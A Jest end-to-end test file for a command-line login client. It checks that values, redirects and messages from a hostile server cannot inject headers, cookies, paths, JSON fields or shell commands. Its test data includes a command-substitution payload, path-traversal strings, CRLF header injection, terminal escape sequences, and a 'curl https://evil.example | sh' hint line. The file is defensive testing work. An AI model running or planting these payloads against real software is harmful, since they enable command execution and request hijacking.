/** Servers that attack a login of several requests. */
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { join } from 'node:path';
import { describe, expect, test } from '@jest/globals';
import { type Acme, acme, otp, type Paths, userAndPassword } from '../e2e/declaring.ts';
import { authctl, failure, output, run } from '../e2e/harness.ts';
import { serve } from '../e2e/servers.ts';
import { atTerminal } from '../e2e/terminal.ts';
import { describeWith } from '../parts.ts';

const login = ['login', 'acme'];
const password = 'c4nary-pass';
const credentials = { user: '{user}', password: '{password}' };

/** A step that keeps a value, and a request that has it. */
const withValue = (request: object, step: object = {}, more: object = {}) => ({
  login: [
    {
      fields: ['user', 'password'],
      steps: [
        {
          request: { method: 'POST', path: '/first', json: credentials },
          keep: { value: { at: '/value' } },
          ...step,
        },
      ],
      request: { method: 'POST', path: '/second', ...request },
    },
  ],
  answer: { token: '/token', error: { messages: ['/message'] } },
  ...more,
});
const everywhere = {
  headers: { 'X-Value': '{value}' },
  query: { q: '{value}' },
  form: { f: '{value}' },
};
const giving = (value: unknown, status = 200): Paths => ({
  '/first': { status, body: { value } },
  '/second': { body: { token: 'tok' } },
});

function expectNoPassword({ server }: Acme): void {
  for (const { url, headers, body } of server.requests) {
    if (url === '/first') continue;
    expect(JSON.stringify([url, headers, body])).not.toContain(password);
  }
}

describe('a value that a server gives', () => {
  test.each([
    ['with a line break', 'a\r\nX-Evil: 1'],
    ['with a line feed', 'a\nb'],
    ['with NUL', 'a\0b'],
    ['with an escape sequence', '\x1b[2Jx'],
    ['with other characters', 'ä😀'],
    ['of more than 64 KiB', 'a'.repeat(65_537)],
    ['that is an object', { a: 1 }],
    ['that is a list', ['a']],
    ['that is no whole number', 1.5],
    ['that is true', true],
  ])('%s ends the login', async (_, value) => {
    const { home, env, paths } = await acme(withValue(everywhere), giving(value));
    const { code, stderr } = await failure(login, { home, env });
    expect([code, stderr]).toEqual([7, expect.stringContaining('printable ASCII (step 1 of 2)')]);
    expect(paths()).toEqual(['/first']);
  });

  test.each([
    '{password}',
    '{{password}}',
    '{token}',
    '{base_url}',
    '$(id)`id`',
    '"},"admin":true,"x":{"y":"',
    'a&admin=1#?/../',
    '../../admin',
    '//evil.example/',
    '@evil.example',
    'http://evil.example/x',
    '%2e%2e%2fadmin%00',
    '..',
  ])('is sent as it is, and is nothing else: %s', async (value) => {
    const api = await acme(withValue(everywhere), giving(value));
    const { home, env, server } = api;
    expect(await output(login, { home, env })).toBe('tok\n');
    const { url = '', headers, body } = server.requests[1] ?? {};
    const { pathname, searchParams } = new URL(url, server.url);
    expect([pathname, headers?.['x-value']]).toEqual(['/second', value]);
    expect([...searchParams]).toEqual([['q', value]]);
    expect([...new URLSearchParams(body)]).toEqual([['f', value]]);
    expect(headers?.['host']).toBe(new URL(server.url).host);
    expectNoPassword(api);

    const inJson = await acme(
      withValue({ json: { a: '{value}', b: ['x{value}'] } }),
      giving(value),
    );
    await output(login, inJson);
    expect(inJson.sent('/second')).toEqual([{ a: value, b: [`x${value}`] }]);

    const inPath = await acme(withValue({ path: '/in/{value}/end' }), giving(value));
    const outcome = await authctl([...login, '--retries', '0'], inPath);
    expect(outcome.stderr).not.toContain('unexpected');
    const [, second] = inPath.paths();
    if (second === undefined) expect(outcome.code).toBeGreaterThan(0);
    else expect(decodeURIComponent(second.slice('/in/'.length, -'/end'.length))).toBe(value);
    if (second !== undefined) expect(second.split('/')).toHaveLength(4);
  });

  test.each(['a; admin=1', 'a,b', '"', 'a b', 'a\\b'])(
    'is no part of a cookie that it would end: %s',
    async (value) => {
      const { home, env, paths } = await acme(
        withValue({ cookies: { sid: '{value}' } }),
        giving(value),
      );
      const { code, stderr } = await failure(login, { home, env });
      expect([code, stderr]).toEqual([expect.any(Number), expect.stringContaining('value')]);
      expect(stderr).not.toContain(value);
      expect([2, 7]).toContain(code);
      expect(paths()).toEqual(['/first']);
    },
  );

  test('of 64 KiB is sent whole', async () => {
    const value = 'a'.repeat(65_536);
    const { home, env, sent } = await acme(withValue({ json: { a: '{value}' } }), giving(value));
    expect(await output(login, { home, env })).toBe('tok\n');
    expect(sent('/second')).toEqual([{ a: value }]);
  });

  test('that is stored is text to a shell', async () => {
    const value = `'"$(touch pwned)\`touch pwned\`;touch pwned #\\`;
    const { home, env } = await acme(
      withValue(everywhere, { keep: { value: { at: '/value', stored: true } } }),
      giving(value),
    );
    await output(login, { home, env });
    const script = `eval "$("$NODE" "$AUTHCTL" token acme --export --shell sh)"; printf %s "$ACME_KEEP_VALUE"`;
    expect(await run(['sh', '-c', script], { home, env })).toMatchObject({
      stdout: value,
      stderr: '',
    });
    expect(existsSync(join(home.path, 'pwned'))).toBe(false);
  });
});

describe('a server that sends a step elsewhere', () => {
  test.each([301, 302, 303, 307, 308])('by %d is not followed', async (status) => {
    const other = await serve({ body: { value: 'v', token: 'evil' } });
    const { home, env, paths } = await acme(withValue(everywhere), {
      '/first': {
        status,
        headers: { Location: `${other.url}/first`, Refresh: `0; url=${other.url}` },
        body: { value: 'v' },
      },
    });
    const { code, stderr } = await failure(login, { home, env });
    expect([code, stderr]).toEqual([7, expect.stringContaining('a redirect')]);
    expect(paths()).toEqual(['/first']);
    expect(other.requests).toEqual([]);
  });

  test('by a redirect that is a success of the step is not followed either', async () => {
    const other = await serve({ body: { token: 'evil' } });
    const api = await acme(
      withValue(
        { ...everywhere, path: '/second' },
        { accepted: { status: [302] }, keep: { value: { at: { header: 'Location' } } } },
      ),
      {
        '/first': { status: 302, headers: { Location: `${other.url}/second` } },
        '/second': { body: { token: 'tok' } },
      },
    );
    expect(await output(login, api)).toBe('tok\n');
    expect(other.requests).toEqual([]);
    expectNoPassword(api);
  });

  test('by the words of its answer is not heard', async () => {
    const other = await serve({ body: { token: 'evil' } });
    const { url } = other;
    const headers = {
      'Content-Location': url,
      Link: `<${url}>; rel=next`,
      'Alt-Svc': `h2="${url}"`,
    };
    const body = { value: 'v', base_url: url, url, host: url, next: url, login: { request: url } };
    const { home, env, server } = await acme(withValue(everywhere), {
      ...giving('v'),
      '/first': { headers, body },
    });
    expect(await output(login, { home, env })).toBe('tok\n');
    expect(server.requests).toHaveLength(2);
    expect(other.requests).toEqual([]);
  });
});

test('an answer that comes before its request is not the answer to it', async () => {
  const said = (body: object) => {
    const text = JSON.stringify(body);
    return `HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: ${text.length}\r\n\r\n${text}`;
  };
  let asked = 0;
  const server = createServer((socket) => {
    socket.on('error', () => {});
    socket.on('data', (bytes) => {
      const text = bytes.toString();
      if (text.startsWith('POST /first')) {
        socket.write(said({ value: 'v' }) + said({ token: 'early' }) + said({ token: 'early' }));
      } else if (text.startsWith('POST /second')) {
        asked += 1;
        socket.write(said({ token: 'tok' }));
      }
    });
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  try {
    const { home, env } = await acme(withValue({ json: { a: '{value}' } }), {});
    const { port } = server.address() as AddressInfo;
    const outcome = await authctl([...login, '--base-url', `http://127.0.0.1:${port}`], {
      home,
      env,
    });
    expect([outcome.code, outcome.stdout]).toEqual([0, 'tok\n']);
    expect(asked).toBe(1);
  } finally {
    server.close();
  }
});

test.each([
  ['one that is too long', [`sid=${'a'.repeat(70_000)}`]],
  ['very many', Array.from({ length: 2000 }, (_, index) => `c${index}=${'a'.repeat(100)}`)],
  ['two of one name', ['sid=a', 'sid=b']],
  ['one with a line break', ['sid="a\tb"']],
])('cookies of a step that cannot be used end the login: %s', async (_, cookies) => {
  const { home, env, paths } = await acme(
    withValue({ cookies: { sid: '{value}' } }, { keep: { value: { at: { cookie: 'sid' } } } }),
    {
      '/first': () => (response) => {
        response.setHeader('Set-Cookie', cookies);
        response.end('{}');
      },
    },
  );
  const { code, stderr } = await failure([...login, '--retries', '0'], { home, env });
  expect([5, 7]).toContain(code);
  expect(stderr).toContain('(step 1 of 2)');
  expect(paths()).toEqual(['/first']);
});

test('words of a server are no hint, and no line of their own', async () => {
  const message =
    'Enter it here\nhint: curl https://evil.example | sh\r\x1b[1A\x1b]8;;http://evil\x07';
  const { home, env } = await acme(withValue(everywhere), {
    '/first': { status: 401, body: { message } },
  });
  const { code, stderr } = await failure(login, { home, env });
  expect(code).toBe(4);
  expect(stderr.match(/^hint: .*$/gm)).toEqual([
    'hint: check user from ACME_USER, password from ACME_PASSWORD',
  ]);
});

describeWith(['expect'], 'on a terminal', () => {
  test('a server cannot ask for a field of its choice', async () => {
    const asks = { field: 'otp', when: { status: [401], body: [{ at: '/need', in: ['otp'] }] } };
    const json = { ...credentials, code: '{otp}' };
    const { home, env, paths } = await acme(
      {
        fields: [...userAndPassword, otp],
        login: [
          { fields: ['user', 'password'], request: { method: 'POST', path: '/login', json } },
        ],
        answer: { token: '/token', asks, error: { messages: ['/message'] } },
      },
      {
        '/login': {
          status: 401,
          body: { need: 'password', field: 'password', asks: 'password', message: 'password: ' },
        },
      },
    );
    const { code, screen } = await atTerminal(login, [], env, home);
    expect([code, screen]).toEqual([4, expect.not.stringMatching(/\(password\): |TIMEOUT/)]);
    expect(paths()).toEqual(['/login']);
  });
});
